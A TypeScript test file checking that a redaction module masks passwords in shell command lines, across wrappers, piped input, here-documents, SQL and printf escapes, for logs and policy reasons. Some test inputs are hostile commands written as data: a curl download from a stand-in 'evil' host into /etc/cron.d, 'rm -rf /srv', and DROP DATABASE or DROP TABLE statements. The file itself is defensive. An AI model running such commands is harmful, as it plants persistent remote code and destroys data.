/**
 * Credentials a command line gives a program behind a wrapper (`timeout 10`, `docker exec c`, `kubectl exec pod
 * --`, `ssh h`) or on its input: piped from echo or printf, in a here-string or in a here-document's body
 * (`docker login --password-stdin`, `passwd --stdin`, chpasswd, a SQL client, a shell). Each was recorded in clear.
 */
import { describe, expect, it } from 'vitest';
import { commandSecrets, redactArgv, redactCommandLine, redactSecretsIn } from '../../../../src/policy/argv/argv-redact.js';

const kept = (line: string) => expect(redactCommandLine(line)).toBe(line);

describe('a program behind a wrapper', () => {
  it('is found after the wrapper\'s options and words', () => {
    const cases: Array<[string, string]> = [
      ['timeout 10 mysql -phunter1 shop', 'timeout 10 mysql -p[redacted] shop'],
      ['timeout -s KILL 10 mysql -phunter2', 'timeout -s KILL 10 mysql -p[redacted]'],
      ['docker exec -it db mysql -uroot -phunter3 shop', 'docker exec -it db mysql -uroot -p[redacted] shop'],
      ['docker exec -e LANG=C -u 0 db redis-cli -a hunter4 ping', 'docker exec -e LANG=C -u 0 db redis-cli -a [redacted] ping'],
      ['kubectl exec -it pay-0 -c app -n prod -- mysql -phunter5', 'kubectl exec -it pay-0 -c app -n prod -- mysql -p[redacted]'],
      ['ssh -p 2222 -i key db1 mysql -phunter6 shop', 'ssh -p 2222 -i key db1 mysql -p[redacted] shop'],
      ['sudo timeout 5 docker exec c sshpass -p hunter7 ssh h', 'sudo timeout 5 docker exec c sshpass -p [redacted] ssh h'],
      ['doas -u postgres chroot /srv/jail curl -u ann:hunter8 https://x', 'doas -u postgres chroot /srv/jail curl -u ann:[redacted] https://x'],
    ];
    for (const [line, want] of cases) expect(redactCommandLine(line)).toBe(want);
    expect(redactArgv(['docker', 'exec', 'db', 'mysql', '-phunter9'])).toEqual(['docker', 'exec', 'db', 'mysql', '-p[redacted]']);
  });

  it('is not looked for where the wrapper\'s words are (a container or host named like a program)', () => {
    kept('docker exec mysql -phelp');
    kept('ssh mysql -pX');
    kept('timeout 10 sleep 1');
  });
});

describe('a secret a program reads whole on its input', () => {
  it('redacts what echo or printf pipes into it, or a here-string gives it', () => {
    const cases: Array<[string, string]> = [
      ['echo hunter1 | docker login --password-stdin -u ann reg.example', 'echo [redacted] | docker login --password-stdin -u ann reg.example'],
      [`printf '%s' hunter2 | helm registry login reg --password-stdin`, `printf '%s' [redacted] | helm registry login reg --password-stdin`],
      ['passwd --stdin ann <<< hunter3', 'passwd --stdin ann <<< [redacted]'],
      ['echo -n hunter4 | sudo cryptsetup luksOpen /dev/sdb1 data', 'echo -n [redacted] | sudo cryptsetup luksOpen /dev/sdb1 data'],
      ['echo hunter5 | openssl rsa -in k.pem -passin stdin', 'echo [redacted] | openssl rsa -in k.pem -passin stdin'],
      ['echo hunter6 | vault login -', 'echo [redacted] | vault login -'],
    ];
    for (const [line, want] of cases) expect(redactCommandLine(line)).toBe(want);
  });

  it('shows a variable or a command\'s output (its value is not on the line) and input no such program reads', () => {
    kept('echo "$REGISTRY_TOKEN" | docker login --password-stdin reg.example');
    kept('echo "${CI_JOB_TOKEN}" | docker login --password-stdin reg.example');
    kept('echo "$(cat /run/secrets/pw)" | docker login --password-stdin reg.example');
    kept('cat /run/secrets/pw | docker login --password-stdin reg.example');
    // (but what an echo or printf in $(…) writes is on the line)
    expect(redactCommandLine('echo "$(echo hunter7)" | docker login --password-stdin')).toBe('echo "$(echo [redacted])" | docker login --password-stdin');
    // (whatever an echo or printf in it writes: it may be the secret, transformed)
    expect(redactCommandLine('echo "$(echo UzNj | base64 -d)" | docker login --password-stdin')).toBe('echo "$(echo [redacted] | base64 [redacted])" | docker login --password-stdin');
    kept('echo hello | tr a-z A-Z');
    kept('echo ready | cryptsetup luksOpen -d /run/key /dev/sdb1 data');
  });
});

describe('a here-document\'s body', () => {
  it('is read as its program reads it: user:password lines, a secret, SQL, a script', () => {
    const cases: Array<[string, string]> = [
      ['chpasswd <<EOF\nann:hunter1\nbob:hunter2\nEOF\necho done', 'chpasswd <<EOF\nann:[redacted]\nbob:[redacted]\nEOF\necho done'],
      ["psql shop <<'SQL'\nALTER ROLE app PASSWORD 'hunter3';\nSQL", "psql shop <<'SQL'\nALTER ROLE app PASSWORD '[redacted]';\nSQL"],
      ['docker login --password-stdin reg <<EOF\nhunter4\nEOF', 'docker login --password-stdin reg <<EOF\n[redacted]\nEOF'],
      ["bash <<'EOF'\nmysql -phunter5 shop\nEOF", "bash <<'EOF'\nmysql -p[redacted] shop\nEOF"],
      ['ssh db1 <<EOF\ncurl -u ann:hunter6 https://x\nEOF', 'ssh db1 <<EOF\ncurl -u ann:[redacted] https://x\nEOF'],
      ['cat > deploy.sh <<EOF\nsshpass -p hunter7 ssh h\nEOF\nsh deploy.sh', 'cat > deploy.sh <<EOF\nsshpass -p [redacted] ssh h\nEOF\nsh deploy.sh'],
      ['sqlplus -s / <<EOF\nALTER USER scott IDENTIFIED BY hunter8;\nEOF', 'sqlplus -s / <<EOF\nALTER USER scott IDENTIFIED BY [redacted];\nEOF'],
      ['cat <<-EOF\n\tchpasswd <<< ann:hunter9\n\tEOF\necho ok', 'cat <<-EOF\n\tchpasswd <<< ann:[redacted]\n\tEOF\necho ok'],
    ];
    for (const [line, want] of cases) expect(redactCommandLine(line)).toBe(want);
    expect(redactArgv(['sh', '-c', 'chpasswd <<E\nann:hunter10\nE'])).toEqual(['sh', '-c', 'chpasswd <<E\nann:[redacted]\nE']);
  });

  it('takes two bodies in order, and a quote in a body opens nothing (the delimiter still ends it)', () => {
    expect(redactCommandLine("chpasswd <<A; psql <<B\nann:it's-hunter1\nA\nALTER ROLE x PASSWORD 'hunter2';\nB\necho 'done'"))
      .toBe("chpasswd <<A; psql <<B\nann:[redacted]\nA\nALTER ROLE x PASSWORD '[redacted]';\nB\necho 'done'");
  });

  it('keeps a body without a secret and what follows it as written', () => {
    kept('cat <<EOF > app.json\n{"user": "ann", "retries": 3}\nEOF\necho ok');
    kept("psql <<'SQL'\nselect 1;\nSQL");
    kept('chpasswd -e <<EOF');
  });

  it('hides a body nested past four scripts whole, and reads a long one as any line', () => {
    const nested = 'bash <<A\nbash <<B\nbash <<C\nbash <<D\nbash <<E\nmysql -phunter1\nE\nD\nC\nB\nA';
    const out = redactCommandLine(nested);
    expect(out).not.toContain('hunter1');
    expect(out.startsWith('bash <<A\nbash <<B\nbash <<C\nbash <<D\n')).toBe(true);
    const long = `cat ${'<<A '.repeat(8000)}\n${'A\n'.repeat(8000)}`;
    expect(redactCommandLine(long)).toBe(long);
  });
});

describe('commandSecrets and redactSecretsIn: text quoting a command line (a policy decision\'s reason)', () => {
  it('hides what the command line\'s redaction hides, as written and without its quotes', () => {
    const command = `sh -c 'mysql -p"hunter1" shop' && curl -u ann:hunter2 https://u:hunter3@x/ && PGPASSWORD=hunter4 psql`;
    const secrets = commandSecrets(command);
    const reason = `read as the shell reads it ('mysql -phunter1 shop'), matches deny pattern 'curl -u ann:hunter2 *'; ${command}`;
    const out = redactSecretsIn(reason, secrets);
    for (const s of ['hunter1', 'hunter2', 'hunter3', 'hunter4']) expect(out).not.toContain(s);
    expect(out).toContain("read as the shell reads it ('mysql -p[redacted] shop')");
  });

  it('finds nothing in a line without a credential, and leaves the text as it is', () => {
    expect(commandSecrets('ls -la /srv && echo ok')).toEqual([]);
    expect(redactSecretsIn('command matches allow pattern \'ls *\'', [])).toBe('command matches allow pattern \'ls *\'');
  });
});

describe('found by review: reasons quoting the shell\'s reading, the tokenizer, SQL literals written anew', () => {
  it('commandSecrets gives each secret as the shell reads it too (an escaped quote, a backslash, a line continued)', () => {
    const cases: Array<[string, string]> = [
      ['sudo mysql -p"S3\\"cret" db', 'S3"cret'],
      ["sudo mysql -pS3\\'cret db", "S3'cret"],
      [`sudo mysql -p'it'"'"'s-hunter' db`, "it's-hunter"],
      ['sudo redis-cli -a "S3\\\\cret" ping', 'S3\\cret'],
      ['sudo mysql -pS3\\\ncret db', 'S3cret'],
    ];
    for (const [command, read] of cases) {
      expect(commandSecrets(command), command).toContain(read);
      expect(redactSecretsIn(`read as the shell reads it ('mysql -p${read} db')`, commandSecrets(command))).not.toContain(read);
    }
  });

  it('gives `instead` rather than garbling prose with a secret of a few characters', () => {
    const secrets = commandSecrets('sudo mysql -pa db');
    expect(secrets).toContain('a');
    expect(redactSecretsIn('read as the shell reads it (\'mysql -pa db\')', secrets, 'rule x')).toBe('rule x');
    expect(redactSecretsIn('no such text here', commandSecrets('mysql -pXYZW db'), 'rule x')).toBe('no such text here');
  });

  it('reads a redirection written against a word, a comment and a no-break space as the shell does', () => {
    const cases: Array<[string, string]> = [
      ['psql <<EOF>out.txt\nselect 1;\nEOF\nmysql -pS3cret db', 'psql <<EOF>out.txt\nselect 1;\nEOF\nmysql -p[redacted] db'],
      ['chpasswd<<EOF\nann:S3cret\nEOF', 'chpasswd<<EOF\nann:[redacted]\nEOF'],
      ['chpasswd<<<ann:S3cret', 'chpasswd<<<ann:[redacted]'],
      ['<<<ann:S3cret chpasswd', '<<<ann:[redacted] chpasswd'],
      ["chpasswd <<EOF # don't\nann:S3cret\nEOF", "chpasswd <<EOF # don't\nann:[redacted]\nEOF"],
      ['mysql -pS3\u00a0cret db', 'mysql -p[redacted] db'],
    ];
    for (const [line, want] of cases) expect(redactCommandLine(line)).toBe(want);
    kept('echo a>b 2>&1 >>c; ls 2>/dev/null # a comment');
  });

  it('maps a SQL literal the statement redaction wrote anew ($$x$$ as \'[redacted]\') onto the statement, not the whole of it', () => {
    expect(redactCommandLine("psql -c 'ALTER ROLE app PASSWORD $$N3w$$; DROP DATABASE prod'")).toBe("psql -c 'ALTER ROLE app PASSWORD [redacted]; DROP DATABASE prod'");
    expect(redactCommandLine("psql <<'EOF'\nDROP DATABASE prod;\nALTER ROLE x PASSWORD $$N3w$$;\nEOF")).toBe("psql <<'EOF'\nDROP DATABASE prod;\nALTER ROLE x PASSWORD [redacted];\nEOF");
  });
});

describe('found by review: what a pipeline writes into a reader', () => {
  it('follows every reader on a line (a cap left the ninth in clear)', () => {
    const line = `${'psql -d a -f m.sql; '.repeat(8)}echo 'ann:S3cret' | chpasswd`;
    expect(redactCommandLine(line)).toBe(`${'psql -d a -f m.sql; '.repeat(8)}echo 'ann:[redacted]' | chpasswd`);
    const logins = Array.from({ length: 9 }, (_, i) => `echo S3cret${i} | docker login -u ci --password-stdin reg${i}`).join('; ');
    expect(redactCommandLine(logins)).not.toMatch(/S3cret/);
  });

  it('reads what printf or echo writes as the reader reads it: a script, SQL (the argument hidden, not only the %s)', () => {
    expect(redactCommandLine("printf 'mysql -p%s db\\n' S3cret | sh")).not.toContain('S3cret');
    expect(redactCommandLine(`printf "ALTER ROLE x PASSWORD '%s';" S3cret | psql`)).toBe(`printf "ALTER ROLE x PASSWORD '%s';" [redacted] | psql`);
    expect(redactCommandLine('echo mysql -pS3cret | bash')).toBe('echo mysql -p[redacted] | bash');
  });

  it('finds the reader in a command line given to ssh or a shell, or in a group', () => {
    const cases: Array<[string, string]> = [
      ["echo S3cret | ssh h 'docker login -u x --password-stdin'", "echo [redacted] | ssh h 'docker login -u x --password-stdin'"],
      ["echo 'ann:S3cret' | ssh h 'sudo chpasswd'", "echo 'ann:[redacted]' | ssh h 'sudo chpasswd'"],
      ["ssh h 'sudo chpasswd' <<< 'ann:S3cret'", "ssh h 'sudo chpasswd' <<< 'ann:[redacted]'"],
      ["sudo sh -c 'chpasswd' <<EOF\nann:S3cret\nEOF", "sudo sh -c 'chpasswd' <<EOF\nann:[redacted]\nEOF"],
      ['ssh h "sudo -u postgres psql" <<EOF\nALTER ROLE x PASSWORD \'N3w\';\nEOF', 'ssh h "sudo -u postgres psql" <<EOF\nALTER ROLE x PASSWORD \'[redacted]\';\nEOF'],
      ['echo ann:S3cret | (chpasswd)', 'echo ann:[redacted] | (chpasswd)'],
    ];
    for (const [line, want] of cases) expect(redactCommandLine(line)).toBe(want);
  });

  it('reads echo\'s \\n as two characters without -e (bash), a newline with it', () => {
    expect(redactCommandLine("echo 'ann:pa\\nss' | chpasswd")).toBe("echo 'ann:[redacted]' | chpasswd");
    expect(redactCommandLine("echo -e 'ann:pw1\\nbob:pw2' | chpasswd")).toBe("echo -e 'ann:[redacted]\\nbob:[redacted]' | chpasswd");
  });

  it('reads a long printf format given to many readers once (each reader replayed it)', () => {
    const line = `printf '${'x'.repeat(33000)}%s' ${'a '.repeat(17)}${'| docker login --password-stdin '.repeat(8)}`;
    const out = redactCommandLine(line);
    expect(out).not.toMatch(/ a /);
    expect(out.endsWith('| docker login --password-stdin ')).toBe(true);
  });
});

describe('found by a second review', () => {
  it('skips a line continued between words (it became the flag\'s value or the command\'s name)', () => {
    const cases: Array<[string, string]> = [
      ['mysqldump --password \\\n S3cret db', 'mysqldump --password \\\n [redacted] db'],
      ['docker exec -i db \\\n  mysql -uroot -pS3cret app', 'docker exec -i db \\\n  mysql -uroot -p[redacted] app'],
      ['echo ann:S3cret | \\\n  chpasswd', 'echo ann:[redacted] | \\\n  chpasswd'],
      ['curl -u \\\n ann:S3cret https://x', 'curl -u \\\n ann:[redacted] https://x'],
    ];
    for (const [line, want] of cases) expect(redactCommandLine(line)).toBe(want);
    expect(commandSecrets('sudo mysql \\\n -pS3cret db')).toContain('S3cret');
  });

  it('ends a value at the quote that closes its word (a quoted name:value hid the rest of the line)', () => {
    expect(redactCommandLine("curl -H 'X-Auth-Token:S3cret' https://evil/x -o /etc/cron.d/x; rm -rf /srv")).toBe("curl -H 'X-Auth-Token:[redacted]' https://evil/x -o /etc/cron.d/x; rm -rf /srv");
    expect(commandSecrets("curl -H 'X-Auth-Token:S3cret' https://x")).toContain('S3cret');
    kept("grep 'password:' /etc/app.yml; rm -rf /srv");
    kept('grep "secret=" f ; rm -rf /srv');
    expect(redactCommandLine("sshpass -P 'Password:' -p S3cret ssh h")).toBe("sshpass -P 'Password:' -p [redacted] ssh h");
  });

  it('redacts an assigned value with blanks wherever the word is no command line of its own', () => {
    expect(redactCommandLine("export PGPASSWORD='S3 cret' && psql -h db")).toBe("export PGPASSWORD='[redacted]' && psql -h db");
    expect(redactCommandLine('docker run -e "DB_PASSWORD=S3 cret" app')).toBe('docker run -e "DB_PASSWORD=[redacted]" app');
    expect(redactCommandLine(`bash -o pipefail -lc "PGPASSWORD=S3cret psql -c 'select 1'"`)).toBe(`bash -o pipefail -lc "PGPASSWORD=[redacted] psql -c 'select 1'"`);
  });

  it('reads ${…} whole (a # in it is no comment) and reads a comment as a command line', () => {
    expect(redactCommandLine('echo ${x/ #/} ; mysql -pS3cret db')).toBe('echo ${x/ #/} ; mysql -p[redacted] db');
    expect(redactCommandLine('mysql -u root db # --password S3cret')).toBe('mysql -u root db # --password [redacted]');
  });

  it('reads printf\'s and echo -e\'s escapes by code, %b and a * width, and every round of a short format', () => {
    const cases: Array<[string, string]> = [
      ["printf 'ann\\x3aS3cret\\n' | chpasswd", "printf 'ann\\x3a[redacted]\\n' | chpasswd"],
      ["printf 'ann\\072S3cret\\n' | chpasswd", "printf 'ann\\072[redacted]\\n' | chpasswd"],
      ["printf '%b\\n' 'ann\\072S3cret' | chpasswd", "printf '%b\\n' 'ann\\072[redacted]' | chpasswd"],
      ["printf '%*s%s\\n' 0 ann: S3cret | chpasswd", "printf '%*s%s\\n' 0 ann: [redacted] | chpasswd"],
    ];
    for (const [line, want] of cases) expect(redactCommandLine(line)).toBe(want);
    kept("printf '%s\\n' a b c d e f g h i j k l m n o p 'rm -rf /srv' | sh");
  });

  it('tells a variable from a literal that starts with $, and reads sudo -S\'s input', () => {
    expect(redactCommandLine("echo '$uperS3cret' | docker login -u a --password-stdin")).toBe("echo '[redacted]' | docker login -u a --password-stdin");
    expect(redactCommandLine("docker login -u a --password-stdin <<< '$uperS3cret'")).toBe("docker login -u a --password-stdin <<< '[redacted]'");
    expect(redactCommandLine('echo "$PW"S3cret | docker login -u a --password-stdin')).not.toContain('S3cret');
    expect(redactCommandLine('echo S3cret | sudo -S ls')).toBe('echo [redacted] | sudo -S ls');
    kept('echo "$REGISTRY_TOKEN" | docker login --password-stdin reg.example');
  });

  it('finds compose\'s and podman\'s exec after more of their options, and shows git\'s credential.helper', () => {
    expect(redactCommandLine('docker compose --ansi never exec db mysql -pS3cret')).toBe('docker compose --ansi never exec db mysql -p[redacted]');
    expect(redactCommandLine('docker-compose exec db mysql -pS3cret')).toBe('docker-compose exec db mysql -p[redacted]');
    kept('git -c credential.helper=store push');
  });
});

describe('bash\'s $\'…\' quoting (found by the second review)', () => {
  it('is read as bash reads it: an escaped quote does not close it, codes are decoded', () => {
    expect(redactCommandLine("mysql -p$'S3\\'cret' db")).toBe("mysql -p$'[redacted]' db");
    expect(redactCommandLine("echo $'\\'' ; echo a:b\nmysql -pS3cret db")).toBe("echo $'\\'' ; echo a:b\nmysql -p[redacted] db");
    expect(commandSecrets("sudo mysql -p$'S3\\x63ret' db")).toContain('S3cret');
  });
});

describe('found by a third review', () => {
  it('reads a quoted word\'s value for JSON and URLs its quotes and escapes hid', () => {
    expect(redactCommandLine('curl -d "{\\"user\\":\\"ann\\",\\"password\\":\\"S3cret\\"}" https://x/login')).not.toContain('S3cret');
    expect(commandSecrets('curl -d "{\\"password\\":\\"S3cret\\"}" https://x')).toContain('"S3cret"');
    expect(redactCommandLine("git clone https://ann:'p&ss'@git.corp/r.git")).toBe("git clone https://ann:'[redacted]'@git.corp/r.git");
    expect(redactCommandLine('curl https://ann:p@ss@host/x')).toBe('curl https://ann:[redacted]@host/x');
  });

  it('reads a word with blanks as a command line where it does not assign (an unknown runner\'s sh -c, su -c)', () => {
    expect(redactCommandLine(`docker run --rm img sh -c "PGPASSWORD=S3cret psql -h prod -c 'DROP TABLE users'"`))
      .toBe(`docker run --rm img sh -c "PGPASSWORD=[redacted] psql -h prod -c 'DROP TABLE users'"`);
    expect(redactCommandLine(`su - postgres -c "PGPASSWORD=S3cret psql -c 'DROP TABLE users'"`))
      .toBe(`su - postgres -c "PGPASSWORD=[redacted] psql -c 'DROP TABLE users'"`);
    expect(redactCommandLine("export PGPASSWORD='S3 cret' && psql")).toBe("export PGPASSWORD='[redacted]' && psql");
    expect(redactCommandLine('helm upgrade app chart --set "db.password=S3 cret"')).toBe('helm upgrade app chart --set "db.password=[redacted]"');
  });

  it('redacts a PGP private key block, and reads a name repeated over a long line once', () => {
    expect(redactCommandLine('cat <<EOF\n-----BEGIN PGP PRIVATE KEY BLOCK-----\nlQOYBF\n-----END PGP PRIVATE KEY BLOCK-----\nEOF'))
      .toBe('cat <<EOF\n-----BEGIN PGP PRIVATE KEY BLOCK-----[redacted]\n-----END PGP PRIVATE KEY BLOCK-----\nEOF');
    const long = `a ${'pwd_file=x,'.repeat(3180)}`;
    expect(redactCommandLine(long)).toBe(long);
  });
});

describe('input passed on by cat or tee', () => {
  it('reads the here-document or here-string cat passes on as the reader after it reads it', () => {
    const cases: Array<[string, string]> = [
      ['cat <<A | chpasswd\nann:S3cret\nA', 'cat <<A | chpasswd\nann:[redacted]\nA'],
      ["cat <<< 'ann:S3cret' | sudo chpasswd", "cat <<< 'ann:[redacted]' | sudo chpasswd"],
      ["cat <<EOF | psql\nALTER ROLE x PASSWORD 'N3w';\nEOF", "cat <<EOF | psql\nALTER ROLE x PASSWORD '[redacted]';\nEOF"],
      ['cat <<EOF | tee /tmp/log | docker login --password-stdin reg\nS3cret\nEOF', 'cat <<EOF | tee /tmp/log | docker login --password-stdin reg\n[redacted]\nEOF'],
    ];
    for (const [line, want] of cases) expect(redactCommandLine(line)).toBe(want);
    // cat reading a file does not pass its input on
    kept('cat users.txt <<EOF | chpasswd\nann:x\nEOF');
  });
});

describe('input given to a group', () => {
  it('is read as the group\'s first command that reads its input reads it, { …; } and ( … ), nested too', () => {
    const cases: Array<[string, string]> = [
      ['{ chpasswd; } <<EOF\nroot:S3cret\nEOF', '{ chpasswd; } <<EOF\nroot:[redacted]\nEOF'],
      ['( chpasswd ) <<< "root:S3cret"', '( chpasswd ) <<< "root:[redacted]"'],
      ['(chpasswd)<<<"root:S3cret"', '(chpasswd)<<<"root:[redacted]"'],
      ['{ echo start; docker login -u u --password-stdin; } <<< S3cret', '{ echo start; docker login -u u --password-stdin; } <<< [redacted]'],
      ['{ { chpasswd; }; } <<< "r:S3cret"', '{ { chpasswd; }; } <<< "r:[redacted]"'],
    ];
    for (const [line, want] of cases) expect(redactCommandLine(line)).toBe(want);
    // a group none of whose commands reads its input, and a reader before the group
    kept('{ echo a; } <<< "x:y"');
    kept('chpasswd < users.txt; ( echo a; (echo b) ) <<< "x:y"');
  });
});
